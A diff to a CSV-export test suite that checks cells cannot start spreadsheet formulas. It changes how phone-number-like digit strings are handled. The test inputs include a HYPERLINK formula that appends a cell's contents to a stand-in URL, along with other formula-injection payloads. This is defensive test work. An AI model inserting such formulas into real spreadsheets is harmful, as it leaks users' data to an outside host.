@@ -21,23 +21,18 @@ test('rows come back as they were, with quotation marks and line breaks in them'
   ])
 })
 
-test.each([
-  ['0241234567', '="0241234567"'],
-  ['00233241234567', '="00233241234567"'],
-  ['+233241234567', '="+233241234567"'],
-  ['123456789012', '="123456789012"'],
-  ['0', '0'],
-  ['0.5', '0.5'],
-  ['23.50', '23.50'],
-  ['5GB', '5GB'],
-])('%s is written %s: Excel changes no digit', (text, written) => {
-  expect(parsed(csvOf([[text]]))).toEqual([[written]])
-})
+test.each(['0241234567', '00233241234567', '123456789012', '0', '0.5', '23.50', '5GB'])(
+  '%s is written as its plain digits',
+  (text) => {
+    expect(parsed(csvOf([[text]]))).toEqual([[text]])
+  },
+)
 
 describe('what would be a formula', () => {
   test.each([
     '=1+1',
     '+1+1',
+    '+233241234567',
     '-1+1',
     '@SUM(A1)',
     '=HYPERLINK("https://x.example?"&A1,"press")',
@@ -61,17 +56,14 @@ describe('what would be a formula', () => {
     expect(parsed(csvOf([[text]]))).toEqual([[written]])
   })
 
-  test('no text at all begins a formula, but for digits that say they are text', () => {
+  test('no text at all begins a formula', () => {
     const start = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\n', ' ', '0', '"', ',')
     const text = fc.tuple(start, start, fc.string({ maxLength: 20 })).map((parts) => parts.join(''))
     fc.assert(
       fc.property(text, (each) => {
         const [[cell = ''] = []] = parsed(csvOf([[each, 'end']]))
-        if (/^="\+?\d+"$/.test(cell)) expect(cell).toBe(`="${each}"`)
-        else {
-          expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
-          expect(cell.replaceAll("'", '')).toBe(each.replaceAll("'", ''))
-        }
+        expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/)
+        expect(cell.replaceAll("'", '')).toBe(each.replaceAll("'", ''))
       }),
     )
   })
